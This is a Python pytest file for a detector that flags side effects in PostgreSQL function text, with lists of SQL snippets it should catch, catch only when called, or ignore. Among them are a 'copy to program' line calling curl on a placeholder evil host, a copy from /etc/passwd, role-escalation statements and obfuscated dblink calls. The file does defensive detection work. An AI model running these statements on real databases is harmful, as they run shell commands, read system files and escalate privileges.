"""What is read out of a function's text, however it is written, and what is not."""

from __future__ import annotations

import pytest

from tenantry.verify.effects import Occasion, effect

FIRED = [
    "select dblink_exec('x', 'y')",
    'select "dblink_exec"(a, b)',
    "select public . DBLINK ( 'x' )",
    "select public./* here */dblink('x')",
    "select '--', dblink('x')",
    "select '/*', dblink('x'), '*/'",
    "select $q$ -- $q$, dblink('x')",
    "select 1 as x$q$, '$q$ -- ', dblink('x')",
    "select e'\\' -- ', dblink('x')",
    'select "a--b", dblink(1)',
    'select u&"dbl\\0069nk"(1)',
    "execute 'copy t to program ''curl evil.example'''",
    "execute format('copy %I to %L', a, b)",
    "copy t to $$/tmp/x$$",
    "select lo_export(1, '/tmp/x')",
    "begin set role postgres; end",
    "begin\n  set local role = 'postgres'; end",
    "execute 'set session authorization postgres'",
    "begin reset role; end",
    "perform set_config('role', 'postgres', true)",
    "perform pg_catalog . set_config ( 'session_replication_role', 'replica', true)",
    "update pg_settings set setting = 'postgres' where name = 'role'",
    "select pg_logical_emit_message(false, 'a', 'b')",
    "select pg_logical_emit_message(transactional => is_it, prefix => 'a', content => 'b')",
    "select pg_advisory_lock(1)",
    "select pg_try_advisory_lock_shared(1)",
    "select * from extensions.http_get('https://example.org')",
    "select http(row('GET', 'https://example.org', null, null, null)::http_request)",
    "select aws_lambda.invoke(a, b)",
    "select pg_background_launch('vacuum')",
    "select utl_file.fopen('a', 'b')",
    "select pg_create_logical_replication_slot('a', 'b')",
    "select pg_stat_statements_reset()",
    "begin load 'evil'; end",
]
CALLED_ONLY = [
    "select nextval('s')",
    "perform pg_notify('a', 'b')",
    "begin notify a; end",
    "select cron . schedule('a', '* * * * *', 'b')",
    "select net.http_post('https://example.org')",
    "select pgmq.send('a', '{}')",
    "select pg_advisory_xact_lock(1)",
    "select pg_logical_emit_message(true, 'a', 'b')",
    "select pg_read_file('a')",
    "execute 'copy t from ''/etc/passwd'''",
]
HARMLESS = [
    "select 1 -- dblink would do this better",
    "/* no dblink_exec here */ select 1",
    "update members set role = 'admin' where id = 1",
    "insert into m values (1) on conflict (id) do update set role = excluded.role",
    "update m as x set session_authorization = 1",
    "select copy_of, program from courses",
    "raise exception 'could not copy the program'",
    "select http_status from calls",
    "select current_setting('role')",
]


@pytest.mark.parametrize("text", FIRED)
def test_what_no_rollback_takes_back_is_seen_on_every_occasion(text: str) -> None:
    assert effect(text, Occasion.FIRED)
    assert effect(text, Occasion.CALLED)


@pytest.mark.parametrize("text", CALLED_ONLY)
def test_what_the_transaction_takes_back_keeps_only_from_calling(text: str) -> None:
    assert effect(text, Occasion.FIRED) == ""
    assert effect(text, Occasion.CALLED)


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_left_in_peace(text: str) -> None:
    assert effect(text, Occasion.CALLED) == ""


def test_what_is_put_together_at_run_time_is_not_seen() -> None:
    """Said in the documents: an untrusted database is verified as a copy."""
    assert effect("execute 'sel' || 'ect dbl' || 'ink(1)'", Occasion.CALLED) == ""
